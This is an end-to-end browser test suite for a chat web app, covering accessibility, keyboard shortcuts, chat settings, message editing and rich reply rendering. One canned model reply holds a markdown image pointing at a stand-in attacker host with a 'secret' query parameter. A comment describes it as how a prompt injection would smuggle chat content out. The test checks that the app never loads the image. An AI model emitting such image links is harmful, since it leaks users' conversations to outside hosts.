import { AxeBuilder } from "@axe-core/playwright";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startAppServer, type AppServer } from "../support/app-server";
import { contentSecurityPolicyViolations, desktop, launchBrowser, phone, screenshot, signInWithPassword } from "../support/browser";
import { ADMIN, setUpAdmin } from "../support/fixtures";
import { solidPng } from "../support/images";
import type { Session } from "../support/session";

/** A host the page must never contact: a prompt injection would smuggle chat content out this way. */
const EXFIL_HOST = "exfil.attacker.test";

const RICH_REPLY = [
  "Here is a comparison:",
  "",
  "| Model | Enclave | Price |",
  "| --- | --- | --- |",
  "| Alpha | yes | $0.10 |",
  "| Beta | no | $0.20 |",
  "",
  "```ts",
  "export function greet(name: string): string {",
  "  return `Hello, ${name}!`;",
  "}",
  "```",
  "",
  "Inline math $e^{i\\pi} + 1 = 0$ and a block:",
  "",
  "$$",
  "\\int_0^1 x^2 \\, dx = \\frac{1}{3}",
  "$$",
  "",
  `![a chart](https://${EXFIL_HOST}/pixel.png?secret=the-users-question)`,
  "",
  "[RedPill](https://redpill.ai) is where this came from.",
].join("\n");

/** axe's serious and critical violations on the page as it is now, as readable lines. */
async function seriousViolations(page: Page): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  return violations
    .filter((v) => v.impact === "serious" || v.impact === "critical")
    .flatMap((v) => v.nodes.map((node) => `${v.id} (${v.impact}): ${node.target.join(" ")} — ${node.failureSummary ?? v.help}`));
}

async function send(page: Page, text: string): Promise<void> {
  await page.getByPlaceholder(/message/i).fill(text);
  await page.keyboard.press("Enter");
}

/** Accessibility (axe), keyboard, chat settings and rich replies: one server for all of them. */
describe("accessibility, keyboard, chat settings and rich replies", () => {
  let app: AppServer;
  let admin: Session;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;

  beforeAll(async () => {
    app = await startAppServer({ database: "embedded" });
    admin = await setUpAdmin(app);
    browser = await launchBrowser();
    context = await browser.newContext(desktop);
    page = await context.newPage();
  });

  afterAll(async () => {
    await browser?.close();
    await app?.stop();
  });

  it("has no serious or critical axe violations on sign-in, the chat with a reply, settings and every admin page", async () => {
    const found: Record<string, string[]> = {};
    await page.goto(`${app.url}/signin`);
    found["/signin"] = await seriousViolations(page);

    await signInWithPassword(page, app.url, ADMIN);
    await send(page, "Hello there, tell me about enclaves");
    const reply = page.getByTestId("message-assistant").first();
    await expect.poll(() => reply.getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");
    // The finished reply refreshes the page (the chat joins the sidebar): scan what it settles on.
    await page.waitForLoadState("networkidle");
    await expect.poll(() => page.title()).not.toBe("");
    found["chat with a reply"] = await seriousViolations(page);

    const { users } = (await (await admin.fetch("/api/admin/users")).json()) as { users: { id: string }[] };
    const { groups } = (await (await admin.fetch("/api/admin/groups")).json()) as { groups: { id: string }[] };
    const paths = [
      "/settings",
      "/usage",
      "/admin/usage",
      "/admin/models",
      "/admin/users",
      `/admin/users/${users[0]!.id}`,
      "/admin/groups",
      `/admin/groups/${groups[0]!.id}`,
      "/admin/budgets",
      "/admin/audit",
      "/admin/settings",
    ];
    for (const path of paths) {
      await page.goto(`${app.url}${path}`);
      await page.waitForLoadState("networkidle");
      found[path] = await seriousViolations(page);
    }

    const dark = await browser.newContext({ ...desktop, colorScheme: "dark", storageState: await context.storageState() });
    const darkPage = await dark.newPage();
    for (const path of ["/", "/admin/usage"]) {
      await darkPage.goto(`${app.url}${path}`);
      await darkPage.waitForLoadState("networkidle");
      found[`${path} (dark)`] = await seriousViolations(darkPage);
    }
    await dark.close();

    const failures = Object.entries(found).flatMap(([where, lines]) => lines.map((line) => `${where}: ${line}`));
    expect(failures).toEqual([]);
  });

  it("tunes a chat in its settings panel: the system prompt and temperature reach the model", async () => {
    await page.goto(`${app.url}/`);
    await page.getByTestId("chat-settings").click();
    await page.getByLabel("System prompt").fill("Reply like a pirate.");
    await page.getByLabel("Temperature").fill("3");
    await page.getByRole("button", { name: "Save settings" }).click();
    await page.getByRole("alert").filter({ hasText: "Temperature" }).waitFor();
    expect(await seriousViolations(page)).toEqual([]);
    await screenshot(page, "chat-settings-panel-light");
    await page.getByLabel("Temperature").fill("0.4");
    await page.getByRole("button", { name: "Save settings" }).click();
    await page.getByLabel("System prompt").waitFor({ state: "hidden" });
    expect(await page.getByTestId("chat-settings").textContent()).toContain("2");

    await send(page, "Where is the treasure?");
    const reply = page.getByTestId("message-assistant").first();
    await expect.poll(() => reply.getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");
    const upstream = app.fake!.requests.filter((r) => r.path === "/v1/chat/completions").at(-1)!.body as {
      messages: { role: string; content: unknown }[];
      temperature?: number;
    };
    expect(upstream.messages[0]).toEqual({ role: "system", content: "Reply like a pirate." });
    expect(upstream.temperature).toBe(0.4);

    // Stored with the chat: after a reload the panel shows them, and a change is saved at once.
    await page.reload();
    await page.getByTestId("chat-settings").click();
    expect(await page.getByLabel("System prompt").inputValue()).toBe("Reply like a pirate.");
    await page.getByLabel("Temperature").fill("");
    await page.getByRole("button", { name: "Save settings" }).click();
    await page.getByLabel("System prompt").waitFor({ state: "hidden" });
    const chatId = new URL(page.url()).pathname.split("/").at(-1)!;
    const stored = (await (await admin.fetch(`/api/chats/${chatId}`)).json()) as { chat: { settings: unknown } };
    expect(stored.chat.settings).toEqual({ system: "Reply like a pirate." });
  });

  it("stops a reply with Esc and opens a new chat with Ctrl+Shift+O", async () => {
    await page.goto(`${app.url}/`);
    await send(page, "Take your time [[fake:slow 300]]");
    const reply = page.getByTestId("message-assistant").first();
    await page.getByTestId("stop").waitFor();
    await reply.locator(".prose-chat").waitFor();
    await page.keyboard.press("Escape");
    await expect.poll(() => reply.getAttribute("data-status"), { timeout: 20_000 }).toBe("aborted");
    expect(await page.getByTestId("messages").getAttribute("role")).toBe("log");

    expect(new URL(page.url()).pathname).toMatch(/^\/chat\//);
    await page.keyboard.press("Control+Shift+O");
    await page.waitForURL(`${app.url}/`);
    await page.getByText("What can I help with?").waitFor();
  });

  it("edits a sent message and resends it: the chat is truncated there, before and after a reload", async () => {
    await page.goto(`${app.url}/`);
    const replies = page.getByTestId("message-assistant");
    const questions = page.getByTestId("message-user");
    // A user message with its Copy and Edit buttons.
    const turns = page.getByTestId("user-turn");
    await send(page, "[[fake:reply One.]] What is one?");
    await expect.poll(() => replies.first().getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");
    // The finished reply refreshes the page (the chat joins the sidebar); type after that.
    await page.getByTestId("chat-list").getByText("What is one?").waitFor();
    await page.waitForLoadState("networkidle");
    await send(page, "[[fake:reply Two.]] What is two?");
    await expect.poll(() => replies.nth(1).getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");

    // Without a reload: the first question carries the id the server stored it under.
    await turns.first().hover();
    await turns.first().getByTestId("edit-message").click();
    const editor = page.getByTestId("edit-input");
    expect(await editor.inputValue()).toBe("[[fake:reply One.]] What is one?");
    await screenshot(page, "chat-edit-message-light");
    await editor.fill("[[fake:reply Three.]] What is three?");
    await page.keyboard.press("Enter");
    await expect.poll(() => replies.count(), { timeout: 20_000 }).toBe(1);
    await expect.poll(() => replies.first().getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");
    expect(await replies.first().textContent()).toContain("Three.");
    expect(await questions.allTextContents()).toEqual([expect.stringContaining("What is three?")]);

    // Stored that way; an edit after the reload works too, and Esc cancels one.
    await page.reload();
    expect(await questions.count()).toBe(1);
    expect(await replies.allTextContents()).toEqual([expect.stringContaining("Three.")]);
    await turns.first().getByTestId("edit-message").click();
    await page.keyboard.press("Escape");
    await page.getByTestId("edit-input").waitFor({ state: "hidden" });
    await turns.first().getByTestId("edit-message").click();
    await page.getByTestId("edit-input").fill("[[fake:reply Four.]] What is four?");
    await page.getByTestId("edit-send").click();
    await expect.poll(() => replies.first().textContent(), { timeout: 20_000 }).toContain("Four.");
    const chatId = new URL(page.url()).pathname.split("/").at(-1)!;
    const stored = (await (await admin.fetch(`/api/chats/${chatId}`)).json()) as { messages: { role: string }[] };
    expect(stored.messages.map((m) => m.role)).toEqual(["user", "assistant"]);

    // A draft survives a reload (and the page refresh after a new chat's first reply).
    await page.getByTestId("chat-input").fill("Half a thought");
    await page.reload();
    await expect.poll(() => page.getByTestId("chat-input").inputValue()).toBe("Half a thought");

    // The chat's header offers Share and Export.
    await page.getByTestId("chat-actions").click();
    expect(await page.getByRole("menuitem", { name: "Export as Markdown" }).getAttribute("href")).toBe(
      `/api/chats/${chatId}/export?format=md`,
    );
    await page.keyboard.press("Escape");
  });

  it("renders an attached image, a Thinking block, tables, highlighted code, math and links, and never loads an image from another host", async () => {
    const offsite: string[] = [];
    context.on("request", (request) => {
      if (new URL(request.url()).host === EXFIL_HOST) offsite.push(request.url());
    });
    const response = await page.goto(`${app.url}/`);
    expect(response!.headers()["content-security-policy"]).toContain("img-src 'self' data: blob:");

    // A picture to a vision model first, then the rich reply from a reasoning model.
    await page.getByTestId("model-picker").click();
    await page.getByTestId("model-option-openai/gpt-5").click();
    await page.getByTestId("attach-input").setInputFiles({ name: "sunset.png", mimeType: "image/png", buffer: solidPng(320, 180, [234, 88, 12]) });
    await page.getByTestId("pending-attachment").waitFor();
    await send(page, "[[fake:reply An orange rectangle.]] What is in this picture?");
    const first = page.getByTestId("message-assistant").first();
    await expect.poll(() => first.getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");
    await page.getByTestId("chat-list").getByText("What is in this picture?").waitFor();
    await page.waitForLoadState("networkidle");
    await page.getByTestId("model-picker").click();
    await page.getByTestId("model-option-phala/deepseek-r1-70b").click();

    app.fake!.enqueue({ type: "reply", text: RICH_REPLY });
    await page.getByPlaceholder(/message/i).fill("Show me everything you can format");
    await page.keyboard.press("Enter");
    const reply = page.getByTestId("message-assistant").nth(1);
    await expect.poll(() => reply.getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");
    await reply.getByTestId("reasoning-toggle").click();
    await reply.getByTestId("reasoning-content").waitFor();
    await expect
      .poll(() => page.getByTestId("message-image").first().evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0))
      .toBe(true);

    await reply.locator("table").waitFor();
    expect(await reply.locator("table td").allTextContents()).toEqual(["Alpha", "yes", "$0.10", "Beta", "no", "$0.20"]);
    // Shiki tokens carry their colours as inline styles.
    await expect.poll(() => reply.locator("pre span[style*='--shiki']").count(), { timeout: 10_000 }).toBeGreaterThan(3);
    expect(await reply.locator("pre").first().textContent()).toContain("return `Hello, ${name}!`;");
    expect(await reply.locator(".katex").count()).toBeGreaterThanOrEqual(2);
    expect(await reply.locator(".katex-display").count()).toBe(1);

    expect(await reply.locator("img").count()).toBe(0);
    const imageLink = reply.getByTestId("reply-image-link");
    expect(await imageLink.textContent()).toContain(EXFIL_HOST);
    expect(await imageLink.getAttribute("rel")).toContain("noopener");
    expect(offsite).toEqual([]);

    await screenshot(page, "chat-rich-reply-light");
    const dark = await browser.newContext({ ...desktop, colorScheme: "dark", storageState: await context.storageState() });
    const darkPage = await dark.newPage();
    await darkPage.goto(page.url());
    await darkPage.getByTestId("message-assistant").nth(1).locator("pre span[style*='--shiki']").first().waitFor();
    await darkPage.getByTestId("reasoning-toggle").click();
    await screenshot(darkPage, "chat-rich-reply-dark");
    await dark.close();
    const small = await browser.newContext({ ...phone, storageState: await context.storageState() });
    const phonePage = await small.newPage();
    await phonePage.goto(page.url());
    await phonePage.getByTestId("message-assistant").nth(1).locator("pre span[style*='--shiki']").first().waitFor();
    await phonePage.getByTestId("reasoning-toggle").click();
    await screenshot(phonePage, "chat-rich-reply-phone");
    await small.close();
  });
});

it("saw no Content-Security-Policy violations in the browser", () => {
  expect(contentSecurityPolicyViolations()).toEqual([]);
});
